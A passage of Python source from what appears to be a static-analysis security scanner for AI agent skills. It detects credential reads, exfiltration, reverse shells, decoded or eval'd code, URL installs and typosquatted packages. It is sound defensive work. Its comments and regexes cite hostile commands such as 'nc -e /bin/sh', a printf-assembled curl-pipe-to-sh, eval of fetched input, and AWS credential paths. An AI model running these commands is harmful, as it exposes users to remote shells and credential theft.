        listed = listed_secret_stores(path) if path.lower().endswith(DATA_SUFFIXES) else []
        code = bundled_text(script)
        reads_files = code is not None and _READS_LISTED_FILES.search(code.text or "") is not None
        if not listed or not reads_files:
            return False
        if host == "?":
            data = bundled_text(path)
            urls = vocabulary.urls(data.text or "") if data is not None else []
            host = _first_remote_host(urls) or _host_handed_beside(given or []) or "?"
            if host == "?":
                return False
        rel = bundled_rel(path) or path
        text = data.text or "" if (data := bundled_text(path)) is not None else ""
        with self.out.placed_in(rel):  # each store at the line of the list that names it
            origins = tuple(
                Origin(
                    Source.SECRET,
                    what,
                    self.out.at(text.count("\n", 0, max(text.find(store), 0)) + 1, f"lists {what}: {store}"),
                )
                for store, what in listed[:3]
            )
        for origin in origins:
            self.out.emit(Kind.SECRET_READ, origin.detail, origin.evidence)
        self.out.egress(line, host, Value(None, origins), f"hands {path} to {script}, which sends")
        return True

    def held_secrets(self, path: str) -> tuple[Origin, ...]:
        """The secrets a file or folder another step filled holds (``out/``, ``$TMPDIR/diag.log``)."""
        path = path.rstrip("/")
        if not path or path.startswith("-") or path in ("*", "?"):
            return ()
        found = merged(self.files.get(path, UNKNOWN).origins, self.files.under(path))
        if not found and path.startswith(("$", "*")) and "/" in path:
            # a folder the runner sets ($TMPDIR, ${TMPDIR:-/tmp}): the file matched by its own name
            named = self.files.named(path.rsplit("/", 1)[1])
            found = named.origins if named is not None else ()
        elif not found and _OWN_FILE_NAME.fullmatch(path):
            # a bare name in the working folder (`push.js migration.json`) that a script wrote beside
            # itself through a folder known only at run time (`$PSScriptRoot\..\migration.json`)
            named = self.files.named(path) or self.files.fitted(path)  # or one named at run time it fits
            found = named.origins if named is not None else ()
        return tuple(o for o in found if o.source in (Source.SECRET, Source.ENV))

    def decoded_stdin(self, stdin: Value, line: int, how: str) -> Value:
        """What an interpreter one-liner prints when it decodes its input (``perl -MMIME::Base64 -ne
        'print decode_base64($_)'``, ``python3 -m base64 -d``): the input decoded."""
        decoded = decode_layers(stdin.text) if stdin.text is not None else None
        layers = f"{'+'.join(decoded.layers)} " if decoded is not None else ""
        origin = self.out.decoded(line, f"{layers}{how}")
        return Value(decoded.text if decoded is not None else None, merged(stdin.origins, (origin,)))

    def echo(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        if name == "printf" and len(args) > 2 and args[0].text == "-v" and args[1].text:
            # `printf -v url 'https://%s/%s' host path`: the text goes into the variable, not out
            self.variables[args[1].text] = self.echo(name, args[2:], texts[2:], stdin, line, redirects)
            return Value("")
        if name == "printf" and args:
            rest = [a for a in args[1:]]
            fmt = args[0].text if args[0].text is not None and not args[0].text.startswith("-") else None
            if fmt is None:
                return joined(args, " ")
            origins = merged(*(a.origins for a in args), self.escaped(fmt, line), self.unescaped(fmt, rest, line))
            if all(a.text is not None for a in rest):
                printed = printf_text(fmt, [a.text or "" for a in rest])
                self.printed_paths(printed, redirects)
                self.printed_command(printed, redirects, line)
                return Value(printed, origins)
            # what it prints with `*` for each part not known: the line a script appends somewhere
            return Value(None, origins, printf_text(fmt, [a.pattern or "*" for a in rest]))
        words = [a for a in args if not (a.text or "").startswith("-") or a.text == "-"]
        escapes = any(a.text in ("-e", "-en", "-ne") for a in args)
        value = joined(words, " ")
        self.printed_paths(value.text, redirects)
        if value.text:
            self.printed_command(value.text, redirects, line)
        if escapes and value.text is not None:
            return Value(_ansi_c(value.text), merged(value.origins, self.escaped(value.text, line)))
        return value

    def printed_command(self, printed: str, redirects: list[Node], line: int) -> None:
        """A command a bundled script prints to the terminal, assembled by ``printf`` from pieces
        (``printf '%s %s%s|%s' curl "http:" "//$h/x" sh``): kept for an order to run what it prints
        (:mod:`.prerequisites`), as no literal of the script holds it whole."""
        if not redirects and self.out.snippet.presentation is Presentation.SCRIPT:
            for row in printed.splitlines():
                printed_command(self.out.snippet.rel, self.out.at(line, "prints"), row.strip())

    def printed_paths(self, printed: str | None, redirects: list[Node]) -> None:
        """Each line printed to the script's output (``echo "$HOME/.aws/credentials"``) that is a
        secret store's path: the script's output is a list of files a later step may pack."""
        if not printed or redirects or "/" not in printed:
            return
        for row in printed.splitlines()[:_MAX_PRINTED_ROWS]:
            printed_store_path(self.out.snippet.rel, row)

    def unescaped(self, fmt: str, rest: list[Value], line: int) -> tuple[Origin, ...]:
        """``printf '%b' "$x"``: a format that is only the escape-interpreting conversion turns its
        argument's escapes (``\x63\x75…``, built at run time from hex or read from a file) into text,
        a decoder like ``xxd -r``; a constant argument is decoded when it is written as escapes."""
        if fmt.strip() != "%b" or len(rest) != 1:
            return ()
        if rest[0].text is not None:
            return self.escaped(rest[0].text, line)
        return (self.out.decoded(line, "escape sequences with printf %b"),)

    def escaped(self, text: str, line: int) -> tuple[Origin, ...]:
        """Text written as escapes (``\\x63\\x75…``, octal) is encoded: what it prints is decoded."""
        if len(_ESCAPE.findall(text)) < 4:
            return ()
        return (self.out.decoded(line, "escape sequences with printf"),)

    def registered_server(self, name: str, entry: Value, line: int) -> None:
        """An MCP server an agent's CLI is told to register from JSON (inline or a bundled file's
        text): what the server's declaration and its command do, on this command's line."""
        from skillgrade.rules.security.behaviour import languages, manifests

        declared = manifests.registered_server(name, entry.text) if entry.text else None
        if declared is None:
            return
        commands, found = declared
        for snippet in commands:
            found.extend(languages.analyse(snippet))
        for capability in found:
            chain = tuple(self.out.at(line, e.what) for e in capability.chain)
            self.out.emit(capability.kind, capability.detail, *chain)

    def nested(self, code: Value, line: int, stdin: Value = UNKNOWN, *, same_shell: bool = False) -> None:
        """Constant or decoded code run by ``sh -c`` or ``eval``: analysed as shell, its lines at
        ``line``, reading what was piped into it (``curl … | eval ". /dev/stdin"``). ``eval`` runs in
        the same shell, so what it assigns stays set (``eval "val=\\$$name"`` reads the variable named)."""
        if code.text is None or self.depth >= MAX_DEPTH or not code.text.strip():
            return
        # the script's functions are callable there; eval's assignments are the script's own
        inner = self.inner(self.variables if same_shell else dict(self.variables), self.depth + 1)
        inner.sockets = self.sockets
        inner.stdin = stdin
        # parsed with its own line breaks (joined into one line, `do`/`then` would end in ` ;` and the
        # loop would not parse), every line reported at the command that runs it
        inner.offset, inner.pinned = line - 1, line
        tree = budget.parse(_parser(), _prepare(code.text))
        before = len(self.out.found)
        inner.statements(tree.root_node, stdin)
        if code.of(Source.DECODED):
            decoded = code.of(Source.DECODED)
            for index in range(before, len(self.out.found)):
                capability = self.out.found[index]
                self.out.found[index] = type(capability)(
                    kind=capability.kind, detail=capability.detail,
                    chain=(*(o.evidence for o in decoded), *capability.chain), snippet=capability.snippet,
                )  # fmt: skip

    def python(self, code: str, line: int) -> None:
        self.inline(code, line, "python")

    def code_on_stdin(self, name: str, code: str, args: list[Value], line: int) -> list[Capability]:
        """A program an interpreter reads from a here-document or a pipe of literal text (``python3 - "$S"
        <<'PY'``), read in its language with the arguments it was given written in for ``sys.argv[n]``:
        the settings file a here-document edits is the path the shell held. A here-document's text starts
        on the line after its command."""
        language = _STDIN_LANGUAGES[name]
        if language == "python":
            code = _argv_written_in(code, args)
        return self.inline(code, line + 1 if "\n" in code.strip() else line, language)

    def code_handed_to_runner(self, args: list[Value], line: int) -> None:
        """``python3 scripts/apply.py "$CODE"`` where the bundled script runs that argument as code
        (decoded first when it decodes it): the argument is read as ``python3 -c`` code would be."""
        at = next((i for i, a in enumerate(args) if not (a.text or "").startswith("-")), None)
        script = args[at].pattern or "" if at is not None else ""
        runner = argument_runner(script) if script.endswith(".py") else None
        if at is None or runner is None or at + runner[0] >= len(args):
            return
        handed = args[at + runner[0]]
        code = handed.text
        if code is not None and runner[1]:
            decoded = decode_layers(code.strip())
            code = decoded.text if decoded is not None else None
        if code and len(code) >= 8:
            before = len(self.out.found)
            self.inline(code, line, "python")
            how = "decodes and runs" if runner[1] else "runs"
            self.led_by(before, [self.out.at(line, f"hands code to {script}, which {how} its argument")])

    def inline(self, code: str, line: int, language: str) -> list[Capability]:
        """Code handed to an interpreter on its command line (``python -c``, ``node -e``), read in its
        language: what it was found to do."""
        from skillgrade.rules.security.behaviour import languages
        from skillgrade.rules.security.behaviour.model import Language

        snippet = self.out.snippet
        inner = Snippet(
            path=snippet.path, rel=snippet.rel, language=Language(language), text=code,
            first_line=snippet.first_line + line - 1, presentation=snippet.presentation, origin=snippet.origin,
        )  # fmt: skip
        found = languages.analyse(inner)
        self.out.found.extend(found)
        return found

    def written_program(self, code: str, line: int, language: str, command: str) -> None:
        """A program a step wrote to a file, run here by its interpreter: what it does, each link shown
        at its line in the skill's file it was joined from (``cat head.js tail.js > x.cjs``), else on
        the line that runs it."""
        from skillgrade.rules.security.behaviour import languages
        from skillgrade.rules.security.behaviour.model import Language

        snippet = self.out.snippet
        inner = Snippet(
            snippet.path, snippet.rel, Language(language), code, 1, Presentation.SCRIPT, origin=snippet.origin
        )
        pieces = (_JOINED_PIECES.get() or {}).get(code, ())
        prefix = snippet.path[: -len(snippet.rel)] if snippet.rel and snippet.path.endswith(snippet.rel) else ""
        run_at = snippet.first_line + line - 1
        run = self.out.at(line, f"runs the written program ({shown_line(command)})")
        for capability in languages.analyse(inner):
            chain = tuple(_piece_evidence(e, pieces, prefix, snippet.path, run_at) for e in capability.chain)
            chain = (*chain, run) if pieces else chain
            self.out.found.append(Capability(capability.kind, capability.detail, chain, snippet))

    def database_client(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        """A database client handed its statements on the command line (``psql -c``, ``mysql -e``,
        ``sqlcmd -Q``): they are SQL, read as a ``.sql`` file is (``COPY … TO PROGRAM`` runs a command)."""
        flags = _DATABASE_CODE_FLAGS.get(name, frozenset())
        for index, text in enumerate(texts):
            flag, _, attached = (text or "").partition("=")
            code = attached if attached and flag in flags else None
            if code is None and text in flags and index + 1 < len(texts):
                code = texts[index + 1]
            if code:
                self.inline(code, line, "sql")
        return self.generic(name, args, texts, stdin, line)

    def raw_socket(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        positional = []
        flags = [t for t in texts if t and t.startswith("-")]
        skip = False
        for index, text in enumerate(texts):
            following = texts[index + 1] if index + 1 < len(texts) else None
            if skip:
                skip = False
            elif text and text in ("-w", "-p", "-s", "-i", "-q", "-W", "-X", "-x", "-O", "-I", "-T", "-g", "-G"):
                skip = True
            elif text in ("-e", "--exec", "--sh-exec", "-c") and _program_word(following):
                skip = True  # nc -e /bin/sh HOST PORT: the program run, not the host
            elif text and not text.startswith("-"):
                positional.append(text)
        if name == "openssl":
            target = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t == "-connect"), None)
            positional = (target or "?").split(":")
        elif name == "socat":
            target = next(
                (t for t in positional if t.lower().startswith(("tcp", "udp", "openssl:", "openssl-connect:", "ssl:"))),
                None,
            )
            positional = (target.split(":", 1)[1] if target else "?").split(":")
        if not positional or any(f == "--listen" or re.fullmatch(r"-[a-zA-Z]*l[a-zA-Z]*", f) for f in flags):
            return UNKNOWN  # -l in any cluster (-lvnp, -nlvp): it waits for a connection, it opens none
        host = vocabulary.url_host(positional[0]) or positional[0]
        port = positional[1] if len(positional) > 1 else "?"
        if name in ("nc", "ncat", "netcat", "telnet") and not _PORT.fullmatch(port):
            return UNKNOWN  # `nc/ncat launched with -e`: words of a sentence, no port to connect to
        if vocabulary.is_local_host(host) or host in ("localhost",):
            return UNKNOWN
        evidence = self.out.at(line, f"opens a raw connection to {host}:{port}")
        shell_given = any(f.split("=")[0] in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for f in flags) or any(
            marker in (t or "").lower() for t in texts for marker in ("exec:", "system:")
        )
        session = stdin.of(Source.SHELL)
        if shell_given or session:
            self.out.emit(
                Kind.RAW_SOCKET,
                f"{host}:{port} (remote shell)",
                *(o.evidence for o in session),
                evidence,
                self.out.at(line, "hands a shell to that connection"),
            )
        else:
            self.out.emit(Kind.RAW_SOCKET, f"{host}:{port}", evidence)
        if any(o.source is not Source.SHELL for o in stdin.origins):
            self.out.egress(line, host, stdin, "sends")
        return Value(None, (self.out.fetched(line, f"tcp://{host}:{port}"),))

    def mail(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        """``mail``/``mutt``/``sendmail`` to an address: what it reads on stdin, and a file attached, go
        to the recipient's mail domain."""
        recipients = [t for t in texts if t and _MAIL_ADDRESS.fullmatch(t)]
        if not recipients:
            return UNKNOWN
        domain = recipients[0].rsplit("@", 1)[1].lower()
        attached = [
            value for flag, value in zip(texts, args[1:], strict=False) if flag in ("-A", "-a", "--attach", "-attach")
        ]
        sent = Value(None, merged(stdin.origins, *(v.origins for v in attached)))
        if any(o.source is not Source.SHELL for o in sent.origins):
            self.out.egress(line, domain, sent, f"mails ({name})")
        return UNKNOWN

    def install(
        self, name: str, args: list[Value], texts: list[str | None], stdin: Value, line: int, redirects: list[Node]
    ) -> Value:
        settings = _config_set(name, texts)
        if settings is not None:
            self.package_manager_config(name, settings, line)
            self.configured_index(settings, line)
            return UNKNOWN
        if vocabulary.printed_credential(name, texts) is not None:  # npm config get …:_authToken, npm token list
            return self.generic(name, args, texts, stdin, line)
        if name == "gem" and texts[:1] == ["sources"]:  # gem sources --add URL: every later gem install
            return self.generic(name, args, texts, stdin, line)
        if name == "go" and texts[:1] not in (["install"], ["get"], ["run"]):  # go env -w, go build …
            return self.generic(name, args, texts, stdin, line)
        if name == "poetry" and texts[:2] == ["source", "add"]:  # poetry source add NAME URL
            url = next((a.pattern for a in args[2:] if a.pattern and "://" in a.pattern), None)
            if url is not None:
                self.index(line, url)
            return UNKNOWN
        for local in args:  # a package file the snippet downloaded, installed: its install scripts run
            held = self.files.get(local.pattern or "") if local.pattern else None
            if held is not None and held.of(Source.FETCHED) and (local.pattern or "").endswith(_PACKAGE_FILES):
                self.out.executes(line, held, f"installs it ({name} {local.pattern})")
        if name in ("npm", "pnpm", "yarn", "bun") and texts[:1] in (["run"], ["run-script"]):
            return self.package_script(texts[1:], stdin, line)
        if name == "uv" and texts[:1] == ["run"]:
            # uv runs a script given its URL (PEP 723 metadata and all): the URL is what it runs only as
            # the command itself, not as an argument the command is given (`uv run tool URL`)
            command = _uv_run_command(args[1:])
            if command is not None and _URLISH.match(command):
                self.out.executes(line, Value(None, (self.out.fetched(line, command),)), "runs it (uv run)")
            return UNKNOWN
        verbs = {"install", "i", "add", "dlx", "exec"} | ({"run"} if name == "pipx" else set())
        verbs |= {"get", "run"} if name == "go" else set()
        passes = {"pip", "tool", "global"}  # uv pip install, uv tool install, yarn global add
        ecosystem = "npm" if name in ("npm", "npx", "pnpm", "pnpx", "yarn", "bun", "bunx", "deno") else "pypi"
        if name in ("gem", "cargo", "go", "brew", "composer", "conda", "mamba"):
            ecosystem = name
        # `pipx install A B` installs like pip; `pipx run SPEC ARGS` runs one package, after its verb
        runner = name in ("npx", "pnpx", "bunx", "uvx") or (name == "pipx" and texts[:1] == ["run"])
        positional: list[str] = []
        indexes: list[tuple[str, bool]] = []  # each index and whether the registry stays beside it
        index = 0
        verb_seen = runner and name != "pipx"
        go_run = name == "go" and texts[:1] == ["run"]
        spec_given = False
        listed_files: list[str] = []  # `-r requirements.txt`: the names the file gives the same install
        while index < len(texts):
            text = texts[index] or "?"
            flag, _, inline = text.partition("=")
            following = inline or (texts[index + 1] or "" if index + 1 < len(texts) else "")
            if flag in ("-r", "--requirement") and ecosystem == "pypi" and (inline or index + 1 < len(texts)):
                listed_files.append(following)
                index += 1 if inline else 2
                continue
            channel = ecosystem in ("conda", "mamba") and flag in ("--channel", "-c") and "://" in following
            if channel or flag in ("--extra-index-url", "--index-url", "-i", "--registry", "--index",
                                   "--default-index", "-f", "--find-links", "--trusted-host", "--source",
                                   "--extra-index"):  # fmt: skip
                # an index URL holding the user's token (https://__token__:${TOKEN}@host/…) is known but for it
                given = (texts[index + 1] or args[index + 1].pattern) if index + 1 < len(texts) else None
                url = inline or given or "?"
                if flag != "--trusted-host" and not (flag == "-i" and ecosystem == "npm"):
                    indexes.append((url, flag in _ADDED_INDEX_FLAGS))
                elif flag == "--trusted-host" and not packages.known_registry_host(f"https://{url}"):
                    self.index(line, f"http://{url}")
                index += 1 if inline else 2
                continue
            if flag in ("--from", "--with", "--spec", "-p", "--package") and index + 1 < len(texts) and not inline:
                positional.append(texts[index + 1] or "?")
                spec_given = spec_given or flag in _SPEC_FLAGS
                index += 2
                continue
            if flag.startswith("-"):
                if inline and flag in ("--from", "--with", "--spec", "--package"):
                    positional.append(inline)
                    spec_given = spec_given or flag in _SPEC_FLAGS
                valued = _INSTALLER_VALUE_FLAGS | (_GO_BUILD_VALUE_FLAGS if name == "go" else frozenset())
                index += 2 if not inline and flag in valued else 1
                continue
            if not verb_seen:
                if text in passes:
                    index += 1
                    continue
                if text in verbs:
                    verb_seen = True
                    index += 1
                    continue
                for url, _ in indexes:
                    self.index(line, url)
                return UNKNOWN
            if go_run and positional and not (positional[-1].endswith(".go") and text.endswith(".go")):
                break  # `go run PACKAGE ARGS…`: after the package (or its .go files) come the program's arguments
            if not (runner and spec_given):  # `uvx --from SPEC tool`: after a spec the word is the command to run
                positional.append(text)
            index += 1
            if runner:
                break
        listed = [spec for path in listed_files for spec in _requirement_names(path)]
        public = tuple(
            dict.fromkeys(
                packages.base_name(s) for s in (*positional, *listed) if packages.public_name(ecosystem, s.strip("\"'"))
            )
        )
        for url, added in indexes:
            # names of the reader's own index carry its owner's word; a placeholder index serving none of them
            unowned = packages.unowned_names(url, (*positional, *listed), ecosystem) if added else ()
            self.index(line, url, public if added else (), unowned=unowned)
        other_index = any(added and not packages.known_index(_index_address(url)) for url, added in indexes)
        told_yes = any(t in ("-y", "--yes") for t in texts) or (ecosystem == "npm" and self.npm_told_yes())
        unattended = runner and told_yes
        for spec in positional:
            self.package(ecosystem, spec, line, name, other_index, unattended)
        return UNKNOWN

    def npm_told_yes(self) -> bool:
        """Whether the script set npm's ``yes`` config in the environment (``export npm_config_yes=true``):
        npx then installs and runs a package without asking, as ``npx -y`` does."""
        for name in ("npm_config_yes", "NPM_CONFIG_YES"):
            value = self.variables.get(name)
            if value is not None and (value.text or "").strip().lower() in ("true", "1", "yes", "y"):
                return True
        return False

    def package(
        self, ecosystem: str, spec: str, line: int, tool: str, other_index: bool = False, unattended: bool = False
    ) -> None:
        """One package ``spec`` an install names; ``other_index``: the command also takes packages from
        an index that is not the registry's, where a near miss of any listed name is a squat;
        ``unattended``: a runner told not to ask (``npx -y``), which runs the newest publish of an
        unpinned name at once, the same opening for a name wearing a listed library's."""
        spec = spec.strip("\"'")
        if not spec or spec in (".", "-e", "-r") or spec.startswith((".", "/", "~", "-r", "-e")) or spec == "?":
            return
        if _URLISH.match(spec) or spec.startswith(("git+", "http:", "https:")) or "://" in spec or " @ http" in spec:
            # a PEP 508 direct reference (name @ URL) installs from the URL; a name that starts with
            # "http" (httpx, httpie) is a name, not a URL
            url = spec if spec.startswith(("git+", "http:", "https:")) else spec.split(" @ ", 1)[-1].split("@", 1)[0]
            if _no_address(url):
                return  # `npx -y https://...` in prose naming the pattern: an address left out installs nothing
            if not packages.known_code_host(url):
                self.out.emit(
                    Kind.INSTALL_URL, url, self.out.at(line, f"installs a package straight from {url} ({tool})")
                )
            return
        if spec.endswith((".tar.gz", ".whl", ".tgz", ".zip")):
            return
        host = packages.go_module_host(spec) if ecosystem == "go" else None
        shown = host is None or vocabulary.placeholder_host(host) or vocabulary.documentation_domain(host)
        if host is not None and not (shown or vocabulary.elided(host)):
            url = "https://" + spec.split("@", 1)[0]
            self.out.emit(Kind.INSTALL_URL, url, self.out.at(line, f"installs a Go module from {host} ({tool})"))
            return
        name = packages.base_name(spec)
        where = ", with an index other than the registry's" if other_index else ""
        meant = packages.confusable(ecosystem, spec)
        if meant is not None:
            what = f"installs {name}, written to be read as {meant} ({tool}){where}"
            self.out.emit(Kind.INSTALL_TYPOSQUAT, f"{name} (looks like {meant})", self.out.at(line, what))
            return
        near = packages.near_miss(ecosystem, spec, every_rank=other_index)
        if near is not None:
            self.out.emit(
                Kind.INSTALL_TYPOSQUAT, f"{name} (looks like {near})",
                self.out.at(line, f"installs {name}, one letter from the popular {near} ({tool}){where}"),
            )  # fmt: skip
            return
        floating = unattended and packages.unpinned(spec)
        extended = packages.listed_name_with_a_word(ecosystem, spec) if other_index or floating else None
        if extended is not None:
            how = where or (", unpinned and without asking" if floating else "")
            self.out.emit(
                Kind.INSTALL_TYPOSQUAT, f"{name} (looks like {extended})",
                self.out.at(line, f"installs {name}, the popular {extended}'s name with a word added ({tool}){how}"),
            )  # fmt: skip
            return
        # only a run of the newest publish at once: a library the skill imports under its own
        # spelling (pip install lightkurve, "light curves" in the prose) is installed, not squatted
        own = self.own_text()
        pieced = own if own is not None and name.lower() not in own.lower() else None  # built from parts here
        misspelt = packages.misspelt_word(ecosystem, spec, self.skill_texts(), pieced) if floating else None
        if misspelt is not None:
            wrong, right = misspelt
            what = f"installs {name}, whose {wrong} misspells the {right} the skill names ({tool})"
            self.out.emit(Kind.INSTALL_TYPOSQUAT, f"{name} (misspells {right})", self.out.at(line, what))
            return
        disguised = packages.digit_for_letter(ecosystem, spec, self.skill_texts())
        if disguised is not None:
            wrong, right = disguised
            what = (
                f"installs {name}, whose {wrong} spells the {right} the skill names with a digit for a letter ({tool})"
            )
            self.out.emit(Kind.INSTALL_TYPOSQUAT, f"{name} (written as {right})", self.out.at(line, what))
            return
        meant = packages.misspelt_listed_name(ecosystem, spec, self.every_text())
        if meant is not None:
            what = f"installs {name}, a misspelling of the listed {meant} the skill names ({tool})"
            self.out.emit(Kind.INSTALL_TYPOSQUAT, f"{name} (looks like {meant})", self.out.at(line, what))
            return
        module = self.misspelt_import(ecosystem, spec)
        if module is not None:
            what = f"installs {name}, one letter from the {module} the skill's code imports ({tool})"
            self.out.emit(Kind.INSTALL_TYPOSQUAT, f"{name} (looks like {module})", self.out.at(line, what))
            return
        # an MCP entry's launcher is judged where its config is read (shipped or only shown, its key's vendor)
        config = self.out.snippet.presentation is Presentation.CONFIG
        if floating and not config and packages.unvetted_run(ecosystem, spec) and not self.own_scope(name):
            # told not to ask, the runner downloads whatever was last published under a name no list
            # or known publisher vouches for and runs it at once: a download run, as `curl | sh` is
            what = (
                f"runs {spec} ({tool}, without asking): the newest publish of an unpinned package no listed "
                "name or known publisher covers, downloaded and run unreviewed"
            )
            evidence = self.out.at(line, what)
            if not self.catalogued(evidence):
                self.out.emit(Kind.EXEC_FETCHED, name, evidence)

    def own_scope(self, name: str) -> bool:
        """``name`` is under an npm scope the skill names as the maker of the tool it uses ("the LedgerBook
        sync tool" beside ``@ledgerbook/sync-cli``): a scope is one owner's, so its packages are that
        vendor's own publishes, as trusted as the vendor the skill says it relies on."""
        if not name.startswith("@") or "/" not in name:
            return False
        scope = name[1:].partition("/")[0].lower()
        word = re.compile(rf"(?<![\w@.-]){re.escape(scope)}(?![\w-])", re.IGNORECASE)
        return any(word.search(text.replace(f"@{scope}/", " ")) for text in self.skill_texts())

    def catalogued(self, evidence: Evidence) -> bool:
        """The command ``evidence`` points at is one of several code spans a Markdown line lists with
        nothing else on it but commas (`` `pip install https://…`, `npx -y some-cli@latest` ``): a
        catalogue of shapes no sentence gives as a step, no list item numbers, no block holds."""
        snippet = self.out.snippet
        if evidence.path != snippet.path or not snippet.rel.lower().endswith((".md", ".markdown")):
            return False
        text = (BUNDLED.get() or {}).get(snippet.rel)
        rows = text.split("\n") if text is not None else []
        number = evidence.line or 0
        if not 0 < number <= len(rows):
            return False
        row = rows[number - 1]
        spans = _CODE_SPAN.findall(row)
        return len(spans) >= 2 and _CATALOGUE_REST.fullmatch(_CODE_SPAN.sub("", row)) is not None

    def misspelt_import(self, ecosystem: str, spec: str) -> str | None:
        """The module the skill's bundled Python imports that the PyPI name ``spec`` is one slip from
        (see :func:`packages.misspelt_import`); the code is read only for a name off the popular list."""
        if ecosystem != "pypi" or packages.public_name("pypi", spec):
            return None
        return packages.misspelt_import(spec, packages.bundled_python_imports(BUNDLED.get() or {}), ())

    def every_text(self) -> tuple[str, ...]:
        """Every file the skill bundles (this one first): where its code imports the project it means."""
        bundled = BUNDLED.get() or {}
        return (self.out.snippet.text, *bundled.values())

    def own_text(self) -> str | None:
        """This file's whole text as the skill bundles it, as :meth:`skill_texts` gives it."""
        return (BUNDLED.get() or {}).get(self.out.snippet.rel)

    def skill_texts(self) -> tuple[str, ...]:
        """This file's text and SKILL.md's: where the skill says which tool it means."""
        bundled = BUNDLED.get() or {}
        rels = dict.fromkeys((self.out.snippet.rel, "SKILL.md"))
        return tuple(bundled[rel] for rel in rels if rel in bundled) or (self.out.snippet.text,)


_CODE_SPAN = re.compile(r"`[^`\n]+`")
_CATALOGUE_REST = re.compile(r"[\s,.;]*")
"""What a line listing code spans as a catalogue holds besides them: commas and a closing stop."""
_GO_BUILD_VALUE_FLAGS = frozenset(
    {"-C", "-o", "-p", "-tags", "-ldflags", "-gcflags", "-asmflags", "-gccgoflags", "-mod", "-modfile", "-overlay",
     "-pkgdir", "-toolexec", "-exec", "-buildmode", "-compiler", "-installsuffix", "-pgo", "-coverpkg", "-covermode"}
)  # fmt: skip
"""The go command's build flags that take the next word as their value (``go run -tags netgo ./cmd``)."""
_INSTALLER_VALUE_FLAGS = frozenset(
    {"--python", "--index-strategy", "--resolution", "--prerelease", "--keyring-provider", "--exclude-newer",
     "--cache-dir", "--python-preference", "--python-platform", "--link-mode", "--directory", "--project",
     "--config-file", "--env-file", "--with-requirements", "--constraint", "--constraints", "--overrides",
     "--target", "--prefix", "--root", "--python-version", "--platform", "--implementation", "--abi",
     "--upgrade-strategy", "--progress-bar", "--timeout", "--retries", "--proxy", "--cert", "--client-cert",
     "--log", "--exists-action", "--tag", "--workspace", "--userconfig", "--loglevel", "--omit", "--include",
     "--install-strategy", "--cache"}
)  # fmt: skip
"""Long options of uv/uvx, pip, pipx and npm that take the next word as their value (``uvx --python
3.12 --from URL tool``): that word is not the package, and the package comes after it."""

_ADDED_INDEX_FLAGS = frozenset({"--extra-index-url", "--extra-index", "--index", "-f", "--find-links"})
"""Index flags that keep the registry and add a source beside it (uv's ``--index`` is asked first):
for a name both offer, pip takes the higher version and uv the added index's, so the added one can
replace any registry package. ``--index-url``/``--registry`` replace the registry outright (a mirror)."""


def _config_set(name: str, texts: list[str | None]) -> list[str | None] | None:
    """The words after ``config set`` (``npm config set registry URL``, ``pip config --user set
    global.index-url URL``, ``npm set …``), its location flags left out; ``None`` for any other command."""
    start = 1 if texts[:1] == ["config"] else 0 if name in ("npm", "pnpm") else len(texts)
    while start < len(texts) and (texts[start] or "").startswith("-"):
        start += 1  # pip config --user set …
    if texts[start : start + 1] == ["set"] and len(texts) > start + 1:
        return texts[start + 1 :]
    return None


def _requirement_names(path: str) -> list[str]:
    """The requirements a bundled requirements file lists (``pip install -r PATH``), its options and
    comments left out; nothing for a file the skill does not bundle."""
    given = bundled_text(path)
    if given is None or given.text is None:
        return []
    found: list[str] = []
    for raw in given.text.splitlines():
        line = raw.split(" #", 1)[0].strip()
        if line and not line.startswith(("#", "-")) and "://" not in line:
            found.append(line)
    return found


def _index_address(url: str) -> str:
    """The URL of an index flag's value: uv's ``--index name=url`` names it."""
    return url.split("=", 1)[1] if re.match(r"^[\w.-]+=\S+://", url) else url


def _no_address(url: str) -> bool:
    """A URL whose host is left out: an ellipsis (``https://...``, ``https://…/pkg.tgz``) or a
    placeholder for the reader to fill in (``https://<host>/x.tgz``), or no scheme at all: pip and uv take
    a VCS source only as ``git+<scheme>://…`` (``git+…@main`` names the pattern, it installs nothing).
    An ellipsis inside the host with no path after it (``https://…tar.gz``, ``https://files...whl``) left
    out the rest of the host and the path both: what follows it ends a file name, not a host, and a name
    with an empty label is none DNS can hold. One with a path (``https://…pkgs.invalid/a.tgz``) still names
    the domain it is under."""
    if "://" not in url:
        return True
    rest = url.split("://", 1)[-1]
    host = rest.split("/", 1)[0].split("@")[-1]
    cut = "/" not in rest and ("..." in host or "\u2026" in host)
    return not host.strip(".…") or cut or vocabulary.elided(host) or vocabulary.placeholder_host(host)


_DECODING_CODE = re.compile(
    r"decode_base64|b64decode|b32decode|b85decode|a85decode|unhexlify|fromhex|decode64|strict_decode64"
    r"|unpack\s*\(?\s*['\"][mH]|base64_decode|hex2bin|gzinflate|gzdecode|atob\s*\(|['\"]base64['\"]\s*\)"
    r"|zlib\.decompress|inflateSync|gunzipSync"
)
"""Code given to an interpreter on its command line that decodes (what it prints is decoded text)."""

_UNPARSED = frozenset({"perl", "ruby", "php", "lua", "tclsh"})
_LIGHTLY_READ = _UNPARSED | {"osascript", "cscript", "wscript"}
"""Interpreters whose code given on the command line is read by :mod:`.interpreters`."""
_DIALECT_HOSTS = {"rscript": "r", "julia": "julia"}
"""Interpreters whose ``-e`` code is read by :mod:`.dialects`, as their language."""
"""Interpreters whose one-liners are read only for a few forms (no parser for their language)."""
_INLINE_FETCH_AND_RUN = re.compile(
    r"(?=.*\b(?:eval|system|exec|instance_eval|class_eval|assert|passthru|shell_exec|popen|Kernel\.exec)\b)"
    r".*?(?:URI\.open|open-uri|Net::HTTP\.get|LWP::Simple|getstore|get\s*\(|file_get_contents|fopen|curl_exec"
    r"|HTTP::Tiny|open)\s*\(?\s*['\"](https?://[^'\"\s]+)",
    re.S,
)
"""A one-liner that reads a URL and hands what it reads to ``eval``/``system`` (an approximation: the
language is not parsed, so both must appear in the one line of code)."""

_AWK_COMMAND = re.compile(
